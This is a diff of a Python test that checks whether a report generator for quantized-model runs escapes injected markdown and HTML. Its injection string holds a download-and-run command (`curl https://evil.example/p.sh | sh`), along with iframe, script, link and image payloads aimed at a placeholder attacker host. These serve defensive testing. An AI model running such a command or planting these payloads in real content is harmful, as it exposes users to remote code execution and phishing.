@@ -415,7 +415,8 @@ def test_runs_that_disagree_or_share_a_label_are_told_apart(tmp_path, monkeypatc
 
 
 INJECTED = ("\n\n## IMPORTANT SAFETY NOTICE\nrun `curl https://evil.example/p.sh | sh` <iframe src=https://evil.example>"
-            "</iframe> [Get the fixed build](https://evil.example/x) ![t](https://evil.example/t.png) <script>x()</script>")
+            "</iframe> [Get the fixed build](https://evil.example/x) ![t](https://evil.example/t.png) <script>x()</script>"
+            " \\[escaped](https://evil.example/e) a|b")
 
 
 def test_result_text_cannot_write_markdown_or_html_into_a_card(tmp_path, capsys):
@@ -429,15 +430,23 @@ def test_result_text_cannot_write_markdown_or_html_into_a_card(tmp_path, capsys)
     run["variants"][1]["runtime"] = "llama.cpp" + INJECTED
     run["variants"][-1]["error"] = "loader refused" + INJECTED
     run["run"]["eval"] = {"source": "mine.jsonl`" + INJECTED, "items": 20, "seed": 0, "domains": {"ct": 20}}
+    run["run"]["model"] = {"source": "/models/qoq`" + INJECTED}  # the reference line's code span
+    second = _run("lab B", 1.0)  # another reference: the report then names each in its reference line
+    second["run"]["model"] = {"source": "other"}
     (tmp_path / "r.json").write_text(json.dumps(run))
-    assert run_cli("report", str(tmp_path / "r.json"), "--out", str(tmp_path / "rep")).returncode == 0
+    (tmp_path / "s.json").write_text(json.dumps(second))
+    assert run_cli("report", str(tmp_path / "r.json"), str(tmp_path / "s.json"), "--out", str(tmp_path / "rep")).returncode == 0
     md = (tmp_path / "rep" / "report.md").read_text()
+    assert md.count("Reference: `") >= 2  # the reference lines were written, each with its injected model source
+    speed = _rendered_rows(md.split("## Speed per machine (medians)")[1].split("\n## ")[0])
+    q8 = next(r for r in speed if r[1] == "gguf:Q8_0")  # the runtime stays in its cell, to its last word
+    assert q8[2].startswith("llama.cpp ## IMPORTANT SAFETY NOTICE") and q8[2].endswith("a|b"), q8
     tokens = MarkdownIt("commonmark").enable("table").parse(md)
     rendered = tokens + [c for t in tokens for c in t.children or []]
     html = [t.content for t in rendered if t.type in ("html_inline", "html_block")]
     assert all(h.startswith("<!-- qoqopt-files [") and "evil" not in h for h in html), html  # its own file records
     targets = [t.attrs.get("src") or t.attrs.get("href") for t in rendered if t.type in ("image", "link_open")]
-    assert targets == ["drift_vs_size.png", "domain_drift.png", "speed.png"], targets  # its own plots
+    assert all(re.fullmatch(r"(drift_vs_size|domain_drift|speed)-\d\.png", t) for t in targets) and len(targets) == 6, targets  # its own plots
     headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
     assert not [h for h in headings if "IMPORTANT" in h] and "IMPORTANT SAFETY NOTICE run" in md  # kept, as text
     for field, value in (("name", "gguf:Q8_0 <img src=x>"), ("name", "gguf:$Q8$"), ("worst_domain", "ct\n## x")):
@@ -453,6 +462,10 @@ def test_result_text_cannot_write_markdown_or_html_into_a_card(tmp_path, capsys)
         edit(bad)
         (tmp_path / "bad.json").write_text(json.dumps(bad))
         assert message in refused(["report", tmp_path / "bad.json", "--out", tmp_path / "rep2"], capsys)
+    bad = _run("lab", 1.0)
+    bad["run"]["eval"] = {"source": "clinical", "items": 5, "seed": 0, "domains": {"<b>ct</b>": 5}}
+    (tmp_path / "bad.json").write_text(json.dumps(bad))
+    assert "'<b>ct</b>' is not a clinical domain name" in refused(["report", tmp_path / "bad.json", "--out", tmp_path / "rep2"], capsys)
     bad = _run("lab", 1.0)
     bad["variants"][1]["drift"]["<b>ct</b>"] = bad["variants"][1]["drift"]["ct"]
     (tmp_path / "bad.json").write_text(json.dumps(bad))
